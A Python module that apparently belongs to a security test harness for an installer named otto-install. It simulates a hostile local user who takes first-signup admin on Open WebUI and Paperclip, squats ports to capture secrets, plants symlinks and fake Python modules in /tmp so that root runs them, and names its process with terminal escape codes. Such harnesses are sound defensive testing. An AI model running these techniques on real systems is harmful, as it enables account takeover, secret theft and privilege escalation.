"""What any other local user can do: be the first to sign up, take ports and names before otto-install does."""
import http.client
import json
import os
import socket
import threading

from common import MARK, Attempt, quietly, write

STRANGER = {"name": "Mallory", "email": "mallory@elsewhere.example", "password": "mallory-was-here-first-1"}
ADDRESSES = ["127.0.0.1", "127.0.1.1", "[::1]"] + ["172.17.0.%d" % one for one in range(1, 8)] + ["172.18.0.%d" % one for one in range(1, 5)]


def ask(address, port, path, body, headers=None):
    """The answer's status, headers and text; None when nobody answers."""
    connection = http.client.HTTPConnection(address.strip("[]"), port, timeout=1.5)
    try:
        connection.request("POST", path, json.dumps(body), {"Content-Type": "application/json", **(headers or {})})
        answer = connection.getresponse()
        return answer.status, answer, answer.read(100_000).decode(errors="replace")
    except (OSError, http.client.HTTPException):
        return None
    finally:
        connection.close()


class Claim(Attempt):
    """Everywhere at once, since a first try may hang."""

    pause = 0.05
    ports = ()

    def turn(self):
        threads = [threading.Thread(target=self.claim, args=(address, port), daemon=True) for address in ADDRESSES for port in self.ports]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(2)
        self.tried(len(threads))

    def claim(self, address, port):
        raise NotImplementedError


class ClaimOpenWebui(Claim):
    ports = (8080,)

    def claim(self, address, port):
        answer = ask(address, port, "/api/v1/auths/signup", STRANGER)
        if answer is not None and answer[0] == 200 and '"role":"admin"' in answer[2].replace(" ", ""):
            self.effect("mallory is the administrator of Open WebUI, by %s:%d" % (address, port))


class ClaimPaperclip(Claim):
    ports = (3000, 3100)

    def claim(self, address, port):
        origin = {"Origin": "http://127.0.0.1:%d" % port, "Host": "127.0.0.1:%d" % port}
        for path in ("/api/auth/sign-up/email", "/api/auth/sign-in/email"):
            answer = ask(address, port, path, STRANGER, origin)
            if answer is None or answer[0] != 200:
                continue
            cookie = "; ".join(one.split(";")[0] for one in answer[1].headers.get_all("Set-Cookie") or [])
            claimed = ask(address, port, "/api/bootstrap/claim", {}, {**origin, "Cookie": cookie})
            if claimed is not None and claimed[0] == 200:
                self.effect("mallory is the administrator of Paperclip, by %s:%d" % (address, port))
            return


class TakePorts(Attempt):
    """Listens where a service of Otto's is not at the moment, for a moment, and reads what it is sent."""

    # Held all the time a port could not be published at all.
    pause = 0.7
    ports = (8080, 3000, 8642)

    def begin(self):
        self.secrets = [(name, value.encode()) for name, value in self.told.get("secrets", [])]

    def turn(self):
        for port in self.ports:
            listening = socket.socket()
            try:
                listening.bind(("127.0.0.1", port))
                listening.listen(8)
            except OSError:
                listening.close()
                continue
            self.tried()
            listening.settimeout(0.1)
            sent = quietly(heard, listening)
            listening.close()
            for name, value in self.secrets if sent else ():
                if value in sent:
                    self.effect("mallory is sent %s on port %d" % (name, port))


def heard(listening):
    connection, _ = listening.accept()
    connection.settimeout(0.2)
    with connection:
        return connection.recv(1 << 16)


class TemporaryNames(Attempt):
    """Names that root has used in a folder for everybody are taken before root comes again: as links to root's files, or pipes."""

    pause = 0.01
    folders = ("/tmp", "/var/tmp", "/run/lock", "/dev/shm")
    guesses = ("otto-install", "otto", "otto.log", "otto-staging", ".otto-staging", "otto-install.log", "npm-otto", "backup.py", "restore.py", "support.tar.gz", "hermes", "answers.yaml",
               "otto-support", "claude-0", "node-compile-cache", "pip-build", "looked-for")

    def begin(self):
        self.mine, self.learnt = [], set(self.guesses)
        for name in ("fcntl", "json", "tarfile"):
            path = "/tmp/%s.py" % name
            quietly(write, path, "# %s\nimport os\nif os.getuid() == 0: open('/root/pwned-temporary-module', 'w').close()\n" % MARK)
            self.mine.append(path)
        self.turn()

    def turn(self):
        for folder in self.folders:
            for name in quietly(os.listdir, folder) or ():
                found = quietly(os.lstat, "%s/%s" % (folder, name))
                if found is not None and found.st_uid == 0 and not name.startswith("systemd-private"):
                    self.learnt.add(name)
            for name in list(self.learnt)[:200]:
                path = "%s/%s" % (folder, name)
                if not os.path.lexists(path):
                    self.tried()
                    quietly(os.symlink, "/etc/victim-tmp" if self.random.random() < 0.8 else "/etc/created-by-mallory", path)
                    if os.path.islink(path):
                        self.mine.append(path)

    def end(self):
        for path in self.mine:
            quietly(os.unlink, path)


class NamedProgram(Attempt):
    """Listens for everybody under a name that is a terminal's command."""

    pause = 0.5

    def begin(self):
        name = "\x1b]0;PWNED\x07\x1b[2J"
        with open("/proc/self/comm", "w", encoding="utf-8") as file:
            file.write(name[:15])
        self.sockets = []
        for port in (3000, 8080, 8642, 8000, 4000, 11434):
            listening = socket.socket()
            try:
                listening.bind(("0.0.0.0" if port > 8642 or port in (8000, 4000) else "127.0.0.2", port))
                listening.listen(1)
                self.sockets.append(listening)
                self.tried()
            except OSError:
                listening.close()
